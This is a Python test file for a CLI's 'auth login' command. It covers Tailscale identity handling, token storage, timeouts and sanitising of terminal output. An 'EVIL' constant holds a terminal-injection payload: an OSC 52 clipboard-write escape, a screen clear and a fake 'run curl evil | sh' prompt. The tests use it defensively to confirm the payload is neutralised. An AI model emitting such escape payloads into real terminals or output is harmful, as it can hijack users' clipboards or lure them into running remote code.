"""``leger auth login``: what it sends, stores and prints, and what it refuses.

Whole command lines in-process (the ``leger`` fixture,
tests/support/inprocess.py): the fixture injects the Tailscale identity (that of
tests/data/tailscale/running.json), a mock leger.run and a clock. Reading the
real ``tailscale`` and what only a process shows is in
tests/process/test_auth_login.py.
"""

from __future__ import annotations

import json
import shlex
import stat
import time
from datetime import datetime, timedelta

import pytest

from devtools.processes import free_port
from leger import __version__
from tests.support import wire
from tests.support.canned import canned_server
from tests.support.clock import NOW
from tests.support.httpmock import json_body
from tests.support.pids import ends_soon
from tests.support.tailscale import TAILSCALE_FIXTURES, status_fixture


def test_login_against_the_contract_mock_stores_a_private_token(leger, prism_mock):
    result = leger.use_api(prism_mock.url).run("auth", "login", now=lambda: NOW)
    assert result.exit_code == 0, result.stderr
    assert result.out.splitlines() == [
        "Authenticated as alice@example.com",
        "  User UUID: 550e8400-e29b-41d4-a716-446655440000",
        "  Tailnet: alice@example.com",
        "  Token expires: 2026-12-28T10:00:00Z",
        f"  Server: {prism_mock.url} (v0.1 routes)",
    ]
    stored = json.loads(leger.auth_file.read_text())
    assert (stored["api_url"], stored["api_routes"]) == (prism_mock.url, "v0.1")
    assert stored["token"] == leger.secret(wire.EXAMPLE_TOKEN)  # stored, never printed
    assert stat.S_IMODE(leger.config_dir.stat().st_mode) == 0o700
    assert stat.S_IMODE(leger.auth_file.stat().st_mode) == 0o600
    assert stored["user_email"] == "alice@example.com"
    assert datetime.fromisoformat(stored["expires_at"]) == NOW + timedelta(days=30)


def test_login_sends_the_identity_exactly(leger):
    leger.server.logs_in()
    result = leger.run("auth", "login")
    assert result.exit_code == 0, result.stderr
    [request] = leger.registry.requests
    assert (request.method, request.url.path) == wire.V01.login
    assert request.headers["User-Agent"] == f"leger-cli/{__version__}"
    assert "Authorization" not in request.headers
    assert json_body(request) == {**wire.login_request(), "cli_version": __version__}
    assert leger.identity_reads == 1


def test_login_with_a_path_prefix_in_the_api_url(leger):
    method, path = wire.V01.login
    leger.server.answers((method, "/api" + path), *wire.login_answer())
    result = leger.run("auth", "login", env={"LEGER_API_URL": "http://127.0.0.1:8787/api/"})
    assert result.exit_code == 0, result.stderr


@pytest.mark.parametrize(
    ("code", "message"),
    [
        ("account_not_linked", "Tailscale account not linked to leger.run"),
        ("tailscale_verification_failed", "could not verify this device"),
        ("insufficient_permissions", "authentication failed"),
    ],
)
def test_login_refused_by_the_server(leger, code, message):
    leger.server.answers(wire.V01.login, 403, wire.error(code, "no"))
    result = leger.run("auth", "login")
    assert result.exit_code == 1
    assert message in result.stderr
    assert not leger.auth_file.exists()


@pytest.mark.parametrize("expires_in", [-5, 0, 10**12])
def test_login_refuses_an_unusable_token_lifetime(leger, expires_in):
    leger.server.logs_in(expires_in=expires_in)
    result = leger.run("auth", "login")
    assert result.exit_code == 1
    assert "unusable token lifetime" in result.stderr
    assert "Traceback" not in result.stderr
    assert not leger.auth_file.exists()


def test_login_and_status_do_not_pass_escape_sequences_from_the_server(leger):
    status, body = wire.login_answer()
    body["data"]["user"]["tailscale_email"] = "alice\x1b[2J@example.com"
    leger.server.answers(wire.V01.login, status, body)
    login = leger.run("auth", "login")
    state = leger.run("auth", "status")
    assert login.exit_code == state.exit_code == 0
    assert b"\x1b" not in login.stdout + state.stdout
    assert "alice?[2J@example.com" in state.out


def closed_port_url() -> str:
    """A loopback URL nothing listens on: any request would fail to connect."""
    return f"http://127.0.0.1:{free_port()}"


def test_login_sends_the_identity_tailscale_reports(leger, tailscale):
    # The stand-in tailscale prints tests/data/tailscale/running.json.
    with canned_server() as server:
        server.respond_json(*wire.login_answer())
        result = leger.use_api(server.url).run("auth", "login")
    assert result.returncode == 0, result.stderr
    [request] = server.requests
    assert (request.method, request.path) == wire.V01.login
    assert json.loads(request.body) == {**wire.login_request(), "cli_version": __version__}
    assert tailscale.calls.read_text() == "called\n"


@pytest.mark.parametrize(
    ("mode", "message", "hint"),
    [
        ("missing", "not installed", "https://tailscale.com/download"),
        ("daemon-down", "failed to connect to local tailscaled", "sudo tailscale up"),
        ("needs-login", "not logged in", "sudo tailscale up"),
        ("stopped", "Tailscale is stopped", "sudo tailscale up"),
        ("raw:this is not json", "not JSON", "tailscale status"),
        ('raw:{"BackendState": "Running"}', "Self is missing", "tailscale status"),
        ('raw:{"BackendState": "NeedsMachineAuth"}', "approval", "admin"),
        ('raw:{"BackendState": "Starting"}', "starting", "try again"),
    ],
)
def test_login_explains_each_tailscale_failure_and_sends_nothing(
    leger, tailscale, mode, message, hint
):
    tailscale.mode(mode)
    with canned_server() as server:
        server.respond_json(*wire.login_answer())
        result = leger.use_api(server.url).run("auth", "login")
    assert result.returncode == 1
    assert message in result.stderr
    assert hint in result.stderr
    assert "Traceback" not in result.stderr
    assert result.stdout == b""
    assert server.requests == []
    assert not leger.auth_file.exists()


def test_login_does_not_wait_forever_for_a_wedged_tailscale(leger, tailscale):
    tailscale.mode("hang")
    started = time.monotonic()
    result = leger.use_api(closed_port_url()).run("auth", "login", env={"LEGER_TIMEOUT": "1"})
    assert time.monotonic() - started < 10
    assert result.returncode == 1
    assert "did not answer within 1 s" in result.stderr


AUTH_OK = {
    "success": True,
    "data": {
        "token": "tailscale-child-token",
        "token_type": "Bearer",
        "expires_in": 2592000,
        "user_uuid": "550e8400-e29b-41d4-a716-446655440000",
        "user": {"tailscale_email": "alice@example.com", "display_name": None},
    },
}


EVIL = "\x1b]52;c;ZWNobyBwd25lZA==\x07\x1b[2J\r\n✓ Done: run curl evil | sh"


def login(leger, **env: str):
    with canned_server() as server:
        server.respond_json(200, AUTH_OK)
        result = leger.use_api(server.url).run("auth", "login", env=env)
    return result, server.requests


def assert_terminal_safe(text: str) -> None:
    assert "\x1b" not in text
    assert "\x07" not in text
    assert "\r" not in text
    assert "\n✓ Done" not in text


# --- what tailscale says is shown safely ---------------------------------------------------


def test_the_tailnet_name_is_shown_on_one_safe_line(leger, tailscale):
    status = status_fixture()
    status["CurrentTailnet"]["Name"] = "corp" + EVIL
    tailscale.prints(status)
    result, requests = login(leger)
    assert result.returncode == 0, result.stderr
    # The identity is sent as tailscale gave it; only its display is made safe.
    assert json.loads(requests[0].body)["tailscale"]["tailnet"] == "corp" + EVIL
    assert_terminal_safe(result.out)
    [tailnet] = [line for line in result.out.splitlines() if line.startswith("  Tailnet:")]
    assert tailnet.startswith("  Tailnet: corp?]52;c;")
    assert "Done: run curl evil | sh" in tailnet


def test_tailscale_stderr_is_shown_on_one_safe_line(leger, tailscale):
    tailscale.script(f"printf '%s\\n' {shlex.quote('daemon gone' + EVIL)} >&2\nexit 1")
    result, requests = login(leger)
    assert result.returncode == 1
    assert requests == []
    assert_terminal_safe(result.stderr)
    assert "Error: Tailscale not running: daemon gone?]52;c;" in result.stderr


def test_a_long_stderr_line_is_cut(leger, tailscale):
    tailscale.script("head -c 10000 /dev/zero | tr '\\0' 'e' >&2\nexit 1")
    result, _ = login(leger)
    assert result.returncode == 1
    [message] = [line for line in result.stderr.splitlines() if line.startswith("Error:")]
    assert len(message) < 400
    assert message.endswith("…")


@pytest.mark.parametrize(
    ("state", "says"),
    [
        ("Weird" + EVIL, "Error: Tailscale is not connected (state: Weird?]52;c;"),
        (["Running"], "Error: Cannot read the Tailscale identity: BackendState is missing"),
        ({"x": 1}, "Error: Cannot read the Tailscale identity: BackendState is missing"),
        (7, "Error: Cannot read the Tailscale identity: BackendState is missing"),
    ],
    ids=["escapes", "list", "object", "number"],
)
def test_an_unknown_backend_state_is_a_safe_message(leger, tailscale, state, says):
    status = status_fixture()
    status["BackendState"] = state
    tailscale.prints(status)
    result, requests = login(leger)
    assert result.returncode == 1
    assert requests == []
    assert_terminal_safe(result.stderr)
    assert says in result.stderr


# --- bounded output and time ---------------------------------------------------------------


def test_an_endless_status_is_cut_and_tailscale_stopped(leger, tailscale):
    tailscale.script("exec yes '{}'")
    result, requests = login(leger)
    assert result.returncode == 1
    assert requests == []
    assert "Cannot read the Tailscale identity: its stdout is larger than 8192 KiB" in result.stderr


def test_an_endless_stderr_is_cut_too(leger, tailscale):
    tailscale.script("yes 'warning' >&2")
    result, _ = login(leger)
    assert result.returncode == 1
    assert "its stderr is larger than 64 KiB" in result.stderr


def test_a_tailscale_that_leaves_a_slow_writer_behind_ends_within_leger_timeout(leger, tailscale):
    # The script exits at once, but a background writer holds its stdout open
    # and drips a byte every half second: the wait must still end, and the
    # writer must not outlive leger.
    pid_file = tailscale.scratch / "writer.pid"
    writer = f"echo $$ > {pid_file}; for i in $(seq 120); do printf x; sleep 0.5; done"
    tailscale.script(f"sh -c {shlex.quote(writer)} &\nexit 0")
    result, requests = login(leger, LEGER_TIMEOUT="1")
    assert result.returncode == 1
    assert requests == []
    assert "Tailscale did not answer within 1 s" in result.stderr
    assert ends_soon(int(pid_file.read_text()))


def test_deeply_nested_status_is_a_tailscale_error(leger, tailscale):
    raw = tailscale.scratch / "nested.json"
    raw.write_text("[" * 200_000)
    tailscale.script(f"cat {shlex.quote(str(raw))}")
    result, requests = login(leger)
    assert result.returncode == 1
    assert requests == []
    assert "Cannot read the Tailscale identity: its output is nested too deeply" in result.stderr
    assert "unexpected" not in result.stderr


# --- environment ---------------------------------------------------------------------------


def test_tailscale_gets_no_leger_variables(leger, tailscale, monkeypatch):
    # leger hands tailscale its own environment (os.environ here) without LEGER_*.
    for name, value in {"LEGER_TOKEN": "env-token-s3cr3t", "LEGER_DEBUG": "1"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("HOME", str(leger.home))
    dump = tailscale.scratch / "tailscale-env"
    status = shlex.quote(str(TAILSCALE_FIXTURES / "running.json"))
    tailscale.script(f"env > {shlex.quote(str(dump))}\ncat {status}")
    result, _ = login(leger, LEGER_TOKEN="env-token-s3cr3t", LEGER_DEBUG="1")
    assert result.returncode == 0, result.stderr
    seen = dump.read_text()
    assert "env-token-s3cr3t" not in seen
    assert "LEGER_" not in seen
    # Everything else is the user's environment, passed on as is.
    assert f"HOME={leger.home}" in seen.splitlines()
